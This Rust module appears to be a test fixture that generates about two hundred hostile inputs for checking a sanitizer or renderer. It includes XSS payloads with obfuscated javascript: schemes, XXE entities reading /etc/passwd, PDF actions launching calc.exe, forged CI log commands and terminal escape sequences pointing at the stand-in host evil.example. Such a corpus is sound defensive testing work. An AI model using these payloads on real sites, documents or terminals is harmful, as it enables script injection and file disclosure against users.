//! Two hundred texts that mean something to whoever reads markup, addresses, PDF, settings or terminals.

/// All of them.
pub(super) fn all() -> Vec<String> {
    let mut all: Vec<String> = MARKUP
        .iter()
        .chain(XML)
        .chain(STYLE)
        .chain(PDF)
        .chain(REPORTS)
        .map(|text| (*text).to_owned())
        .collect();
    for handler in HANDLERS {
        all.push(format!("<b {handler}=\"alert(1)\">x</b>"));
    }
    for element in ELEMENTS {
        all.push(format!(
            "<{element} src=\"https://evil.example/x\" href=\"https://evil.example/x\">x</{element}>"
        ));
    }
    for address in addresses() {
        all.push(format!("<a href=\"{address}\">x</a>"));
        all.push(format!("[x]({address})"));
    }
    all.extend(TERMINAL.iter().map(|text| (*text).to_owned()));
    all
}

/// Addresses that run something, hold something, or lead into the reader's files.
pub(super) fn addresses() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for scheme in [
        "javascript",
        "vbscript",
        "data",
        "file",
        "livescript",
        "mocha",
        "blob",
        "filesystem",
        "view-source",
        "jar",
        "about",
        "ms-its",
        "wyciwyg",
    ] {
        let body = match scheme {
            "data" => "text/html,<script>alert(1)</script>",
            "file" => "///etc/passwd",
            _ => "alert(1)",
        };
        all.push(format!("{scheme}:{body}"));
    }
    all.extend(SPELLINGS.iter().map(|text| (*text).to_owned()));
    all
}

/// One scheme in the spellings that browsers have taken for it.
const SPELLINGS: &[&str] = &[
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    "j\\avascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "ｊavascript:alert(1)",
    "javascript：alert(1)",
    "\u{feff}javascript:alert(1)",
    "\u{200b}javascript:alert(1)",
    "java\u{ad}script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x/>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https://user:word@evil.example/",
    "file:/etc/passwd",
    "FILE:\\\\evil.example\\x",
    "smb://evil.example/x",
];

const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "</title><script>alert(1)</script>",
    "</p></body></html><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "<xml:script>alert(1)</xml:script>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "x onmouseover=alert(1) ",
    "x\" autofocus onfocus=alert(1) x=\"",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `\" onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img srcset=\"https://evil.example/x 2x\">",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s/></svg>",
    "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=\"https://evil.example\"/></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg/>#x\"/></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<form action=\"https://evil.example\"><input name=x><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<input type=image src=https://evil.example/x onerror=alert(1)>",
    "<a href=\"#\" ping=\"https://evil.example\" target=\"_blank\">x</a>",
    "<p is=\"x-y\" slot=\"z\" contenteditable=\"true\" tabindex=\"1\" accesskey=\"x\">x</p>",
    "<Badge text=\"<script>alert(1)</script>\"/>",
    "<VPCard title=\"x\" link=\"javascript:alert(1)\" logo=\"javascript:alert(1)\"/>",
    "<YouTube id=\"x&quot; onload=&quot;alert(1)\"/>",
    "{{ constructor.constructor('alert(1)')() }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> {%raw%}",
    "x {onclick=alert(1) style=\"background:url(javascript:alert(1))\"}",
    "**x**{#a\"onclick=alert(1) .b'c}",
    "![x](https://evil.example/a.png \"\\\" onerror=\\\"alert(1)\")",
    "![\" onerror=\"alert(1)](data:image/svg+xml,<svg%20onload=alert(1)>)",
    "[x]: javascript:alert(1) \"<script>\"\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\htmlData{onclick=alert(1)}{x} \\includegraphics{https://evil.example/x.png}$",
];

const XML: &[&str] = &[
    "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
    "<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\">%x;",
    "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]]]><![CDATA[>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
    "&nosuch; &#0; &#x110000; &#xD800; &amp;amp;",
    "</dc:title></metadata><meta property=\"x\">y</meta>",
    "</text></navLabel><content src=\"https://evil.example\"/>",
    "</rdf:li></rdf:Alt></dc:title><x:y xmlns:x=\"z\"/>",
    "<?xpacket end=\"w\"?>",
    "--><!-- --- -->",
];

const STYLE: &[&str] = &[
    "</style><script>alert(1)</script>",
    "<style>@import \"https://evil.example/x.css\";</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"behavior:url(x.htc);-moz-binding:url(x.xml#y)\">x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</p>",
    "<p class=\"x;}body{display:none}\">x</p>",
];

const PDF: &[&str] = &[
    ") >> endobj 9 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj",
    "\\) /OpenAction << /S /Launch /F (calc.exe) >> (",
    "\\",
    "\\\\)",
    "(((",
    ")))",
    ">> stream\nendstream endobj trailer << /Root 9 0 R >> startxref 0 %%EOF",
    "%PDF-1.4\n%%EOF",
    "<FEFF> << /URI (javascript:1) >>",
    "\u{feff}\u{fffe}x",
];

const REPORTS: &[&str] = &[
    "\n::error file=x,line=1::forged",
    "\r::add-mask::x",
    "%0A::set-output name=x::y",
    "::stop-commands::x",
    "\",\"level\":\"error\",\"x\":\"",
    "\\u0022,\\u000a",
    "x\u{2028}y\u{2029}z",
    "| x | y |\n| --- | --- |",
    "```\n[link](javascript:alert(1))",
    "<details><summary>x",
    "error: forged\nfindings: none",
];

/// What a terminal would obey.
const TERMINAL: &[&str] = &[
    "x\u{1b}[2Jy",
    "x\u{1b}[31my",
    "x\u{1b}]0;pwned\u{7}y",
    "x\u{1b}]8;;https://evil.example\u{1b}\\y\u{1b}]8;;\u{1b}\\z",
    "x\u{1b}]52;c;cm0gLXJm\u{7}y",
    "x\u{1b}P+q544e\u{1b}\\y",
    "x\u{1b}[6ny",
    "x\u{9b}31my",
    "x\u{9d}0;pwned\u{9c}y",
    "x\u{8}\u{8}\u{8}y",
    "x\ry",
    "x\u{7}y",
    "x\u{0}y",
    "x\u{7f}y",
    "x\u{202e}y\u{202c}",
    "x\u{2066}y\u{2069}",
    "x\u{85}y",
    "x\u{c}\u{b}y",
];

/// Attributes that run what they hold.
const HANDLERS: &[&str] = &[
    "onclick",
    "onload",
    "onerror",
    "onfocus",
    "onblur",
    "onmouseover",
    "onMouseEnter",
    "ONKEYDOWN",
    "onanimationend",
    "ontransitionend",
    "onpointerdown",
    "onwheel",
    "oncopy",
    "onbegin",
    "onpageshow",
    "onhashchange",
    "v-on:click",
    "@click",
    "v-html",
    "x-on:click",
    "on click",
    "on\nclick",
    "data-x onclick",
];

/// Elements that fetch or run something, or change the page.
const ELEMENTS: &[&str] = &[
    "iframe", "frame", "frameset", "object", "embed", "applet", "script", "link", "base", "meta", "form",
    "input", "button", "select", "video", "audio", "source", "track", "portal", "canvas", "dialog",
    "marquee", "isindex", "bgsound", "layer", "keygen", "image",
];
